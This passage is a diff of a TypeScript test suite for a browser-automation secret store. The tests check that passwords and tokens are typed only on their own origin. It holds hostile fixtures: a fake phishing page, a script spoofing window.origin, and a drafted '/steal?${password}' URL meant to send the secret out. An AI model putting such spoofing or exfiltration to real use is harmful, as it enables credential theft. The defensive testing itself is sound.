@@ -20,17 +20,26 @@ const TOKEN = 'tok-55aa77cc99';
 const newSession = (origins = [stage.shop.url]): Promise<StagedSession> =>
   stage.newSession({ secrets: { password: { value: PASSWORD, origins }, token: { env: 'SHOP_TOKEN', origins } } });
 
+/** One session for all whose secrets are the shop's and that ask for the warnings of their own page only. */
+let shared: StagedSession | undefined;
+let toldBefore = 0;
+async function on(path: string): Promise<StagedSession> {
+  shared ??= await newSession();
+  toldBefore = (await shared.log()).length;
+  await shared.open(path);
+  return shared;
+}
+
 async function warnings(session: StagedSession) {
-  return (await session.log()).flatMap(({ data }) =>
-    data.warning?.details?.['guard'] === undefined ? [] : [data.warning],
-  );
+  return (await session.log())
+    .slice(toldBefore)
+    .flatMap(({ data }) => (data.warning?.details?.['guard'] === undefined ? [] : [data.warning]));
 }
 
 const typing = (selector: string, text = '${password}') => a('INPUT_TEXT', { selector, text });
 
 test('a secret is typed into a field of its origin, from the sealed store as from the environment', async () => {
-  const session = await newSession();
-  await session.open('/parts/form');
+  const session = await on('/parts/form');
   await session.did([typing('#name'), typing('#notes', 'Bearer ${token}')]);
   expect(await session.page().inputValue('#name')).toBe(PASSWORD);
   expect(await session.page().inputValue('#notes')).toBe(`Bearer ${TOKEN}`);
@@ -38,8 +47,7 @@ test('a secret is typed into a field of its origin, from the sealed store as fro
 });
 
 test('on another origin it is not typed, and the log says which guard it was', async () => {
-  const session = await newSession();
-  await session.open(stage.page('/phishing', '<label>Password <input></label>'));
+  const session = await on(stage.page('/phishing', '<label>Password <input></label>'));
   const { outcomes } = await session.run([typing('input')]);
   expect(outcomes).toMatchObject([{ status: 'failed', code: 'SM002' }]);
   expect(outcomes[0]?.message).toBe(
@@ -52,10 +60,9 @@ test('on another origin it is not typed, and the log says which guard it was', a
 });
 
 test('what counts is the origin of the frame that holds the field, whatever its document says of itself', async () => {
-  const session = await newSession();
   const lies = `<script>Object.defineProperty(window, 'origin', { value: '${stage.shop.url}' }); document.title = '${stage.shop.url}'</script>`;
   const form = `${stage.shop.url}/parts/form`;
-  await session.open(
+  const session = await on(
     stage.page(
       '/frames',
       `${lies}<input id="own"><iframe id="shop" src="${form}"></iframe>
@@ -73,8 +80,7 @@ test('what counts is the origin of the frame that holds the field, whatever its 
 });
 
 test('it gets into no address, no other command and, by what a page says, into nothing at all', async () => {
-  const session = await newSession();
-  await session.open(stage.page('/tempting', '<p id="bait">${password}</p><input id="open">'));
+  const session = await on(stage.page('/tempting', '<p id="bait">${password}</p><input id="open">'));
   await session.did([a('SAVE_VARIABLE', { selector: '#bait', variableName: 'bait' })]);
   for (const draft of [
     a('OPEN_PAGE', { url: `${site}/steal?\${password}` }),
